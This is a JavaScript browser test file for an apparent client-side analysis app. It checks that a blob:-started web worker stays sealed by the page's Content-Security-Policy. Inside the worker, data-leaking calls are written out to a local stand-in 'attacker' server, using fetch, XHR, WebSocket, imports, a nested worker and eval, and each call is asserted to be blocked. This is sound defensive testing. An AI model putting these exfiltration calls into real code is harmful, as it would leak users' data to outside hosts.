// The worker that holds the raw data is under the page's security policy (issue 12, finding 4).
// The page's CSP is a <meta> tag; a worker loaded from its own URL would not inherit it, so the
// page starts the worker from a blob: URL, which does. Here, from inside the running worker,
// every way out is tried against a second local server on another port (another origin):
// fetch, XMLHttpRequest, WebSocket, a dynamic import() and importScripts() of a foreign URL,
// eval and new Function. Each must fail, the other server must see no request at all, and the
// analysis must still work afterwards. The same holds when the policy comes only from the HTTP
// header of deploy/_headers (the page served under /header-only/ without its <meta> tag), and the
// example header files for static hosts carry exactly the <meta> tag's policy.
// Run after `scripts/lib.sh build_site`.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { createReadStream, existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, extname, join, normalize, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const DIST = join(ROOT, 'dist');
const META_POLICY = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"\s*\/>/;
const MIME = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.css': 'text/css; charset=utf-8' };

let site;
let outside;
let outsidePort;
let context;
let page;
let worker;
let work;
const outsideHits = [];

/** The Content-Security-Policy a deploy/ example file sets. */
function headerPolicy(name) {
  const text = readFileSync(join(ROOT, 'deploy', name), 'utf8');
  const m =
    /^\s*Content-Security-Policy:\s*(.+)$/m.exec(text) ?? // _headers
    /^\s*add_header\s+Content-Security-Policy\s+"([^"]+)"/m.exec(text) ?? // nginx
    /^\s*Header\s+always\s+set\s+Content-Security-Policy\s+"([^"]+)"/m.exec(text); // Apache
  assert.ok(m, `deploy/${name} sets no Content-Security-Policy`);
  return m[1].trim();
}

function listen(server) {
  return new Promise((ok) => server.listen(0, '127.0.0.1', () => ok(server)));
}

before(async () => {
  assert.ok(existsSync(join(DIST, 'worker-source.js')), 'dist/worker-source.js is missing: build it first (scripts/lib.sh build_site)');
  site = await listen(
    http.createServer((req, res) => {
      let path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
      // /header-only/...: the page without its <meta> policy, with deploy/_headers' header instead.
      const headerOnly = path.startsWith('/header-only/');
      if (headerOnly) path = path.slice('/header-only'.length);
      let file = normalize(join(DIST, path));
      if (!file.startsWith(DIST)) return res.writeHead(403).end();
      if (existsSync(file) && statSync(file).isDirectory()) file = join(file, 'index.html');
      if (!existsSync(file)) return res.writeHead(404).end('not found');
      const headers = { 'content-type': MIME[extname(file)] ?? 'application/octet-stream', 'cache-control': 'no-store' };
      if (headerOnly && extname(file) === '.html') {
        headers['content-security-policy'] = headerPolicy('_headers');
        const html = readFileSync(file, 'utf8');
        assert.match(html, META_POLICY);
        return res.writeHead(200, headers).end(html.replace(META_POLICY, ''));
      }
      res.writeHead(200, headers);
      createReadStream(file).pipe(res);
    }),
  );
  // The "attacker's" server: answers everything permissively, and records every request and
  // WebSocket upgrade that reaches it.
  outside = http.createServer((req, res) => {
    outsideHits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('self.leaked = true;');
  });
  outside.on('upgrade', (req, socket) => {
    outsideHits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await listen(outside);
  outsidePort = outside.address().port;

  work = mkdtempSync(join(tmpdir(), 'clientele-e2e-policy-'));
  context = await chromium.launchPersistentContext(join(work, 'profile'), {
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync', '--disable-quic'],
  });
  page = context.pages()[0] ?? (await context.newPage());
  const started = new Promise((ok) => page.once('worker', ok));
  await page.goto(`http://127.0.0.1:${site.address().port}/`);
  // The element starts its worker on first use; preload() starts it now.
  await page.locator('clientele-report .drop').waitFor();
  await page.evaluate(() => document.querySelector('clientele-report').preload());
  worker = await started;
});

after(async () => {
  await context?.close();
  site?.close();
  outside?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

test('the worker is started from a blob: URL (so it inherits the page policy)', () => {
  assert.match(worker.url(), /^blob:http:\/\/127\.0\.0\.1:\d+\//);
});

/** Tries every way out from inside `w`; asserts each was blocked and nothing reached the other server. */
async function expectSealed(t, w) {
  const results = await w.evaluate(async (port) => {
    const base = `http://127.0.0.1:${port}`;
    const out = {};
    const attempt = async (name, fn) => {
      try {
        out[name] = `allowed: ${await fn()}`;
      } catch (e) {
        out[name] = `blocked: ${e?.name ?? ''} ${e?.message ?? e}`;
      }
    };
    await attempt('fetch', async () => (await fetch(`${base}/fetch?secret=1`)).status);
    await attempt('xhr', () => {
      const x = new XMLHttpRequest();
      x.open('GET', `${base}/xhr?secret=1`, false);
      x.send();
      return x.status;
    });
    await attempt('websocket', () =>
      new Promise((ok, fail) => {
        const ws = new WebSocket(`ws://127.0.0.1:${port}/ws?secret=1`);
        ws.onopen = () => ok('open');
        ws.onerror = () => fail(new Error('error event'));
        ws.onclose = () => fail(new Error('closed'));
      }),
    );
    await attempt('dynamic import', async () => {
      await import(`${base}/module.js?secret=1`);
      return 'imported';
    });
    await attempt('importScripts', () => {
      importScripts(`${base}/classic.js?secret=1`);
      return 'imported';
    });
    // A module worker has no importScripts at all (the call above throws whatever the policy),
    // so the classic form is tried in a classic worker this worker starts from a blob: URL.
    await attempt('importScripts in a nested classic worker', () =>
      new Promise((ok, fail) => {
        const src = `try { importScripts('${base}/nested.js?secret=1'); postMessage('allowed'); } catch (e) { postMessage('blocked: ' + e.name + ' ' + e.message); }`;
        const nested = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
        nested.onmessage = (e) => (e.data.startsWith('blocked') ? fail(new Error(e.data)) : ok(e.data));
        nested.onerror = (e) => fail(new Error(`nested worker error: ${e.message}`));
      }),
    );
    await attempt('eval', () => (0, eval)('1 + 1'));
    await attempt('new Function', () => new Function('return 2 + 2')());
    out.leaked = String(self.leaked === true);
    return out;
  }, outsidePort);
  for (const [name, outcome] of Object.entries(results)) t.diagnostic(`${name}: ${outcome}`);
  for (const name of ['fetch', 'xhr', 'websocket', 'dynamic import', 'importScripts', 'importScripts in a nested classic worker', 'eval', 'new Function']) {
    assert.match(results[name], /^blocked:/, `${name} from the worker: ${results[name]}`);
  }
  assert.equal(results.leaked, 'false');
  // Give any stray connection time to land before checking the other server saw nothing.
  await new Promise((ok) => setTimeout(ok, 300));
  assert.deepEqual(outsideHits, [], 'requests that reached the other origin');
}

test('from inside the worker, every way out is blocked and nothing reaches another origin', async (t) => {
  await expectSealed(t, worker);
});

test('the analysis still runs in the policed worker', async () => {
  await page.locator('clientele-report').getByRole('button', { name: /sample/i }).first().click();
  await page.locator('clientele-report [data-section="rfm"]').waitFor({ timeout: 90_000 });
  assert.equal(await page.locator('clientele-report .alert').isVisible(), false);
});

test('with the policy only in the HTTP header (deploy/_headers), the worker is sealed too', async (t) => {
  const other = await context.newPage();
  try {
    const started = new Promise((ok) => other.once('worker', ok));
    await other.goto(`http://127.0.0.1:${site.address().port}/header-only/`);
    await other.locator('clientele-report .drop').waitFor();
    await other.evaluate(() => document.querySelector('clientele-report').preload());
    const w = await started;
    assert.equal(await other.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')), null);
    await expectSealed(t, w);
  } finally {
    await other.close();
  }
});

test('the example header files for static hosts set exactly the page policy', () => {
  const meta = META_POLICY.exec(readFileSync(join(ROOT, 'www/index.html'), 'utf8'))[1];
  assert.match(meta, /worker-src blob:/);
  assert.match(meta, /connect-src 'none'/);
  for (const name of ['_headers', 'nginx.conf', '.htaccess']) assert.equal(headerPolicy(name), meta, `deploy/${name}`);
});
